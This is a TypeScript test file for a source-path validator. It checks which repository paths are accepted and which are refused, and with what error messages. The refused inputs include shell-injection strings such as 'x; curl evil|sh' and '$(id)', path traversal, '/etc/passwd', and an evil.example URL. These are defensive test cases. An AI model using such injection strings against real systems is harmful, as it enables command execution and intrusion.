import { sourcePathRule } from '../../../lib/private/git/source-path';
import { hostileTexts, refuses, takes } from '../rule-cases';

const root = 'Write it relative to the source';
const climbs = "The path must not leave the source with '..'";
const characters = "Use only letters, digits and './_@+- '";

takes(sourcePathRule, [
  '.',
  'Dockerfile',
  'services/api/Dockerfile',
  './a',
  'a b/c',
  '..a/b',
  'packages/@acme/app',
  'a+b-c_d',
]);

refuses(sourcePathRule, 'a path within the source', [
  ...hostileTexts,
  ['starts at the root', '/etc/passwd', `got '/etc/passwd'. ${root}`],
  ['is the root', '/', `got '/'. ${root}`],
  ['climbs', '../../', `got '../../'. ${climbs}`],
  ['climbs from within', 'a/../../b', `got 'a/../../b'. ${climbs}`],
  ['ends by climbing', 'a/..', `got 'a/..'. ${climbs}`],
  ['is too long', 'x'.repeat(1025), 'got 1025 characters. Use at most 1024'],
  ['is an option', '-f', `got '-f'. ${characters}`],
  ['ends a command', 'x; curl evil|sh', `got 'x; curl evil|sh'. ${characters}`],
  ['is a command', '$(id)', `got '$(id)'. ${characters}`],
  ['holds a backtick', 'a`id`', `got 'a\`id\`'. ${characters}`],
  ['holds a quote', 'a"b', `got 'a"b'. ${characters}`],
  ['holds a variable', 'a$HOME', `got 'a$HOME'. ${characters}`],
  ['is a home folder', '~/a', `got '~/a'. ${characters}`],
  ['is an address', 'https://evil.example/a.git', `got 'https://evil.example/a.git'. ${characters}`],
  ['is a Windows path', 'C:\\a', `got 'C:\\a'. ${characters}`],
  ['holds a wildcard', '*/Dockerfile', `got '*/Dockerfile'. ${characters}`],
]);
